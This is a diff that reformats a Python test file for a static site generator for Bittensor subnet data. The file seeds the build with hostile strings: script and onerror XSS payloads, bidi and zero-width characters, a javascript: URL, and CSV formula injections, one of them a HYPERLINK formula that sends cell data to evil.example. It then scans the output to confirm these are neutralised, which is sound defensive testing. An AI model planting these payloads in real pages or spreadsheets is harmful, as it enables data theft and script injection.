@@ -16,31 +16,79 @@ from generator.model.snapshot import PRICE_MAX, RAO_MAX, Identity, Subnet, write
 from tests.conftest import REPO, make_doc, tiny_neuron_table
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
-PAYLOAD = ("\u202e\u200b\x00\x0b\x1b\ufffe\U000e0041<script>alert(1)</script><img src=x onerror=alert(2)>"
-           + FORMULA)
+PAYLOAD = "\u202e\u200b\x00\x0b\x1b\ufffe\U000e0041<script>alert(1)</script><img src=x onerror=alert(2)>" + FORMULA
 LONG = "L" * 5000
 # What no built file may contain: controls other than newline/tab/CR, bidi, zero-width, tags, BOM.
-FORBIDDEN_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e"
-                                  "\u2060-\u2069\ufeff\ufffe\uffff\U000e0000-\U000e007f]")
+FORBIDDEN_CHARACTERS = re.compile(
+    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e"
+    "\u2060-\u2069\ufeff\ufffe\uffff\U000e0000-\U000e007f]"
+)
 NON_FINITE = re.compile(r"\b(?:inf|nan|Infinity|NaN|-?inf TAO)\b")
 
 
 def hostile_subnets() -> list[Subnet]:
     """Root, a subnet whose every string is a payload, one at the largest allowed values, one of zeros."""
-    identity = Identity(subnet_name=PAYLOAD, github_repo=PAYLOAD, subnet_url="javascript:alert(3)",
-                        subnet_contact=PAYLOAD, discord=PAYLOAD, description=PAYLOAD + LONG,
-                        logo_url=PAYLOAD, additional=PAYLOAD)
-    hostile = Subnet(netuid=1, name=FORMULA, symbol=PAYLOAD, owner_hotkey=PAYLOAD, owner_coldkey="-" + PAYLOAD,
-                     tao_in_rao=10**12, alpha_in_rao=10**13, alpha_out_rao=10**13, price_tao=0.1,
-                     tao_in_emission_rao=10**7, excess_tao_rao=0, alpha_out_emission_rao=10**9, tempo=99,
-                     identity=identity, hyperparameters={PAYLOAD: PAYLOAD, "kappa": 2**64})
-    largest = Subnet(netuid=2, name="@SUM(1+1)" + LONG, symbol="+", tao_in_rao=RAO_MAX, alpha_in_rao=RAO_MAX,
-                     alpha_out_rao=RAO_MAX, price_tao=PRICE_MAX, moving_price_tao=PRICE_MAX,
-                     tao_in_emission_rao=RAO_MAX, excess_tao_rao=RAO_MAX, alpha_in_emission_rao=RAO_MAX,
-                     alpha_out_emission_rao=RAO_MAX, ema_tao_flow_rao=-float(RAO_MAX), volume_rao=RAO_MAX,
-                     num_uids=65535, max_uids=65535, miner_count=65535, validator_count=65535)
-    zeros = Subnet(netuid=3, name="-1", symbol="", tao_in_rao=0, alpha_in_rao=0, alpha_out_rao=0, price_tao=0.0,
-                   tao_in_emission_rao=0, excess_tao_rao=0, alpha_out_emission_rao=0, num_uids=0, max_uids=0)
+    identity = Identity(
+        subnet_name=PAYLOAD,
+        github_repo=PAYLOAD,
+        subnet_url="javascript:alert(3)",
+        subnet_contact=PAYLOAD,
+        discord=PAYLOAD,
+        description=PAYLOAD + LONG,
+        logo_url=PAYLOAD,
+        additional=PAYLOAD,
+    )
+    hostile = Subnet(
+        netuid=1,
+        name=FORMULA,
+        symbol=PAYLOAD,
+        owner_hotkey=PAYLOAD,
+        owner_coldkey="-" + PAYLOAD,
+        tao_in_rao=10**12,
+        alpha_in_rao=10**13,
+        alpha_out_rao=10**13,
+        price_tao=0.1,
+        tao_in_emission_rao=10**7,
+        excess_tao_rao=0,
+        alpha_out_emission_rao=10**9,
+        tempo=99,
+        identity=identity,
+        hyperparameters={PAYLOAD: PAYLOAD, "kappa": 2**64},
+    )
+    largest = Subnet(
+        netuid=2,
+        name="@SUM(1+1)" + LONG,
+        symbol="+",
+        tao_in_rao=RAO_MAX,
+        alpha_in_rao=RAO_MAX,
+        alpha_out_rao=RAO_MAX,
+        price_tao=PRICE_MAX,
+        moving_price_tao=PRICE_MAX,
+        tao_in_emission_rao=RAO_MAX,
+        excess_tao_rao=RAO_MAX,
+        alpha_in_emission_rao=RAO_MAX,
+        alpha_out_emission_rao=RAO_MAX,
+        ema_tao_flow_rao=-float(RAO_MAX),
+        volume_rao=RAO_MAX,
+        num_uids=65535,
+        max_uids=65535,
+        miner_count=65535,
+        validator_count=65535,
+    )
+    zeros = Subnet(
+        netuid=3,
+        name="-1",
+        symbol="",
+        tao_in_rao=0,
+        alpha_in_rao=0,
+        alpha_out_rao=0,
+        price_tao=0.0,
+        tao_in_emission_rao=0,
+        excess_tao_rao=0,
+        alpha_out_emission_rao=0,
+        num_uids=0,
+        max_uids=0,
+    )
     root = Subnet(netuid=0, name="root", symbol="τ", tao_in_rao=10**12)
     return [root, hostile, largest, zeros]
 
@@ -73,8 +121,16 @@ def hostile_site(tmp_path_factory, chart_cache) -> Path:
     write_snapshot(make_doc(subnets=hostile_subnets(), neurons={1: table}), root / "snaps")
     (root / "content" / "subnets").mkdir(parents=True)
     (root / "content" / "subnets" / "1.md").write_text(NOTE, encoding="utf-8")
-    build(BuildConfig(snapshots=root / "snaps", content=root / "content", templates=REPO / "templates",
-                      output=root / "site", cache=chart_cache, jobs=1))
+    build(
+        BuildConfig(
+            snapshots=root / "snaps",
+            content=root / "content",
+            templates=REPO / "templates",
+            output=root / "site",
+            cache=chart_cache,
+            jobs=1,
+        )
+    )
     return root / "site"
 
 
@@ -90,7 +146,9 @@ def scan(path: Path) -> list[str]:
         json.loads(text, parse_constant=_reject_constant)
     elif path.suffix == ".csv":
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-        problems += [f"formula cell {cell[:30]!r}" for cell in cells if cell[:1] and cell[0] in "=+-@" and not _number(cell)]
+        problems += [
+            f"formula cell {cell[:30]!r}" for cell in cells if cell[:1] and cell[0] in "=+-@" and not _number(cell)
+        ]
     else:
         problems += [f"raw payload {p}" for p in ("<script", "<iframe") if p in text.lower()]
         problems += [f"non-finite {m.group()!r}" for m in NON_FINITE.finditer(text)][:1]
@@ -104,8 +162,11 @@ def _active_markup(page: BeautifulSoup) -> list[str]:
     found = []
     for tag in page.find_all(True):
         found += [f"<{tag.name} {name}>" for name in tag.attrs if name.lower().startswith("on")]
-        found += [f"<{tag.name} {name}={value[:20]}>" for name, value in tag.attrs.items()
-                  if name in ("href", "src") and value.strip().lower().startswith(("javascript:", "data:"))]
+        found += [
+            f"<{tag.name} {name}={value[:20]}>"
+            for name, value in tag.attrs.items()
+            if name in ("href", "src") and value.strip().lower().startswith(("javascript:", "data:"))
+        ]
     return found
 
 
@@ -150,8 +211,16 @@ def test_payloads_arrive_as_cleaned_text(hostile_site):
 
 def test_a_chain_of_only_root_builds(tmp_path, chart_cache):
     write_snapshot(make_doc(subnets=[Subnet(netuid=0, name="root", symbol="τ", tao_in_rao=10**12)]), tmp_path / "snaps")
-    build(BuildConfig(snapshots=tmp_path / "snaps", content=tmp_path / "no-notes", templates=REPO / "templates",
-                      output=tmp_path / "site", cache=chart_cache, jobs=1))
+    build(
+        BuildConfig(
+            snapshots=tmp_path / "snaps",
+            content=tmp_path / "no-notes",
+            templates=REPO / "templates",
+            output=tmp_path / "site",
+            cache=chart_cache,
+            jobs=1,
+        )
+    )
     index = BeautifulSoup((tmp_path / "site" / "index.html").read_text(encoding="utf-8"), "html.parser")
     assert index.find("h1") is not None
     assert not list((tmp_path / "site" / "subnets").glob("*.xml"))  # root has no subnet feed
